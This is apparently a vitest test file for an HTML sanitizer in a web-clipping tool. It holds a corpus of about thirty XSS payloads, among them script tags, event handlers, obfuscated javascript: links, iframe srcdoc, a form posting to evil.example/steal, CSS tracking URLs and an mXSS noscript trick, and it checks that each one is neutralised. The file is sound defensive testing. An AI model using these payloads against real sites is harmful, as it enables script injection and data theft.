// @vitest-environment jsdom
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import {
  CLIP_SANITIZE_CONFIG,
  isAllowedClipUrl,
  sanitizeClipHtml,
} from '@/lib/capture/sanitizeClipHtml';

const win = new JSDOM('').window as unknown as Window;
const clean = (html: string) => sanitizeClipHtml(html, win);

/** Parses sanitized output so assertions look at the DOM, not at string spellings. */
function parsed(html: string): Document {
  return new JSDOM(`<body>${clean(html)}</body>`).window.document;
}

function expectNothingActive(doc: Document) {
  expect(
    doc.querySelector(
      'script, style, iframe, object, embed, form, input, button, meta, base, link, frame',
    ),
  ).toBeNull();
  for (const element of doc.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name, `${element.localName}[${name}]`).not.toMatch(/^on/i);
      expect(name).not.toBe('style');
      expect(name).not.toBe('srcdoc');
      expect(value, `${element.localName}[${name}]`).not.toMatch(/^\s*(?:javascript|vbscript):/i);
      if (/^data:/i.test(value.trim())) {
        expect(`${element.localName}[${name}]`).toBe('img[src]');
        expect(value).toMatch(/^data:image\//i);
      }
    }
  }
}

/** Each entry is an attack the clip viewer must never see work, with what must remain. */
const XSS_CORPUS: { name: string; html: string; keeps?: string }[] = [
  { name: 'script tag', html: '<p>ok</p><script>alert(1)</script>', keeps: 'ok' },
  { name: 'img onerror', html: '<img src="https://example.org/x.png" onerror="alert(1)">' },
  { name: 'svg script', html: '<svg><script>alert(1)</script><circle r="4"></circle></svg>' },
  { name: 'svg onload', html: '<svg onload="alert(1)"><rect width="1" height="1"></rect></svg>' },
  { name: 'javascript: href', html: '<a href="javascript:alert(1)">link</a>', keeps: 'link' },
  {
    name: 'obfuscated javascript: href',
    html: '<a href=" jav&#x09;ascript:alert(1)">x</a><a href="JaVaScRiPt:alert(1)">y</a>',
  },
  { name: 'vbscript: href', html: '<a href="vbscript:msgbox(1)">v</a>' },
  {
    name: 'iframe srcdoc',
    html: '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>after</p>',
    keeps: 'after',
  },
  { name: 'iframe src', html: '<iframe src="https://evil.example/"></iframe>' },
  {
    name: 'meta refresh',
    html: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>t</p>',
  },
  { name: 'base href', html: '<base href="https://evil.example/"><a href="/x">x</a>' },
  {
    name: 'form action',
    html: '<form action="https://evil.example/steal"><input name="q"><button>Go</button></form>',
  },
  { name: 'button formaction', html: '<button formaction="https://evil.example/">b</button>' },
  {
    name: 'object and embed',
    html: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  },
  {
    name: 'style tag with url()',
    html: '<style>p{background:url(https://tracker.example/p.gif)}</style><p>s</p>',
  },
  {
    name: 'style attribute with url()',
    html: '<p style="background-image:url(https://tracker.example/p.gif)">s</p>',
  },
  { name: 'css expression()', html: '<div style="width:expression(alert(1))">e</div>' },
  {
    name: 'table background',
    html: '<table background="https://tracker.example/p.gif"><tr><td>c</td></tr></table>',
  },
  { name: 'data:text/html link', html: '<a href="data:text/html,<script>alert(1)</script>">d</a>' },
  {
    name: 'data:text/html image',
    html: '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  },
  { name: 'svg image', html: '<svg><image href="https://tracker.example/p.gif"></image></svg>' },
  { name: 'svg use', html: '<svg><use href="https://evil.example/sprite.svg#x"></use></svg>' },
  {
    name: 'svg animate to javascript',
    html: '<svg><a><animate attributeName="href" values="javascript:alert(1)"></animate><text>t</text></a></svg>',
  },
  { name: 'math href', html: '<math href="javascript:alert(1)"><mi>x</mi></math>' },
  { name: 'link stylesheet', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  {
    name: 'mXSS via noscript',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  {
    name: 'video poster',
    html: '<video poster="https://tracker.example/p.gif" src="https://evil.example/v.mp4"></video>',
  },
  { name: 'a ping', html: '<a href="https://example.org/" ping="https://tracker.example/">p</a>' },
  {
    name: 'srcset with javascript',
    html: '<img src="https://example.org/a.png" srcset="javascript:alert(1) 1x">',
  },
];

describe('sanitizeClipHtml XSS corpus', () => {
  for (const { name, html, keeps } of XSS_CORPUS) {
    it(`neutralises ${name}`, () => {
      const doc = parsed(html);
      expectNothingActive(doc);
      if (keeps) expect(doc.body.textContent).toContain(keeps);
    });
  }

  it('leaves no tracking URL from CSS or poster anywhere in the output', () => {
    const output = XSS_CORPUS.map(({ html }) => clean(html)).join('\n');
    expect(output).not.toContain('tracker.example');
    expect(output).not.toContain('evil.example');
    expect(output).not.toMatch(/<script|javascript:|vbscript:/i);
  });
});

describe('sanitizeClipHtml keeps the content', () => {
  it('keeps structure, tables, figures, lists, lang and dir', () => {
    const doc = parsed(`
      <article lang="ar" dir="rtl"><h2>عنوان</h2><p>Text <em>with</em> <a href="https://example.org/a">a link</a>
      and a <a href="#note-1">footnote</a>.</p>
      <figure><img src="https://example.org/a.png" alt="A" width="20" height="10"><figcaption>Cap</figcaption></figure>
      <table><thead><tr><th colspan="2">H</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>
      <ol start="3"><li>three</li></ol><blockquote cite="https://example.org/q">q</blockquote><pre><code>x = 1</code></pre></article>`);
    const article = doc.querySelector('article');
    expect(article?.getAttribute('lang')).toBe('ar');
    expect(article?.getAttribute('dir')).toBe('rtl');
    expect(doc.querySelector('a[href="https://example.org/a"]')).not.toBeNull();
    expect(doc.querySelector('a[href="#note-1"]')).not.toBeNull();
    expect(
      doc.querySelector('figure img[src="https://example.org/a.png"][width="20"]'),
    ).not.toBeNull();
    expect(doc.querySelector('figcaption')?.textContent).toBe('Cap');
    expect(doc.querySelector('th[colspan="2"]')).not.toBeNull();
    expect(doc.querySelectorAll('td')).toHaveLength(2);
    expect(doc.querySelector('ol[start="3"] li')?.textContent).toBe('three');
    expect(doc.querySelector('pre code')?.textContent).toBe('x = 1');
  });

  it('keeps MathML and plain SVG drawings', () => {
    const doc = parsed(
      '<p><math display="block"><mfrac><mi>a</mi><mn>2</mn></mfrac></math></p><svg viewBox="0 0 4 4"><circle cx="2" cy="2" r="2"></circle></svg>',
    );
    expect(doc.querySelector('math mfrac mi')?.textContent).toBe('a');
    expect(doc.querySelector('svg circle')).not.toBeNull();
  });

  it('keeps data: images and the inliner marker, drops other data attributes', () => {
    const doc = parsed(
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline"><img src="https://example.org/b.png" data-plp-remote="failed" data-src="https://example.org/lazy.png">',
    );
    const [inline, remote] = doc.querySelectorAll('img');
    expect(inline?.getAttribute('src')).toBe('data:image/png;base64,iVBORw0KGgo=');
    expect(remote?.getAttribute('data-plp-remote')).toBe('failed');
    expect(remote?.hasAttribute('data-src')).toBe(false);
  });

  it('drops relative URLs, which would resolve against the viewer', () => {
    const doc = parsed('<a href="/dashboard.html">rel</a><img src="x.png">');
    expect(doc.querySelector('a')?.hasAttribute('href')).toBe(false);
    expect(doc.querySelector('img')?.hasAttribute('src')).toBe(false);
  });

  it('keeps the text of page controls out, and the text of unknown elements in', () => {
    const doc = parsed(
      '<p>Read <button>Share</button><custom-note>this</custom-note></p><select><option>One</option></select>',
    );
    expect(doc.body.textContent?.trim()).toBe('Read this');
  });
});

describe('the exported configuration', () => {
  it('forbids style and data attributes and the dangerous tags', () => {
    expect(CLIP_SANITIZE_CONFIG.FORBID_ATTR).toContain('style');
    expect(CLIP_SANITIZE_CONFIG.ALLOW_DATA_ATTR).toBe(false);
    for (const tag of [
      'script',
      'style',
      'iframe',
      'object',
      'embed',
      'form',
      'input',
      'button',
      'meta',
      'base',
      'link',
    ]) {
      expect(CLIP_SANITIZE_CONFIG.FORBID_TAGS).toContain(tag);
    }
  });

  it('judges URLs by attribute and element', () => {
    expect(isAllowedClipUrl('a', 'href', 'https://example.org/')).toBe(true);
    expect(isAllowedClipUrl('a', 'href', 'mailto:a@example.org')).toBe(true);
    expect(isAllowedClipUrl('a', 'href', 'data:image/png;base64,AA==')).toBe(false);
    expect(isAllowedClipUrl('img', 'src', 'data:image/svg+xml,<svg/>')).toBe(true);
    expect(
      isAllowedClipUrl(
        'img',
        'srcset',
        'https://example.org/a.png 1x, data:image/png;base64,AA== 2x',
      ),
    ).toBe(true);
    expect(isAllowedClipUrl('img', 'srcset', 'https://example.org/a.png 1x, /b.png 2x')).toBe(
      false,
    );
  });
});
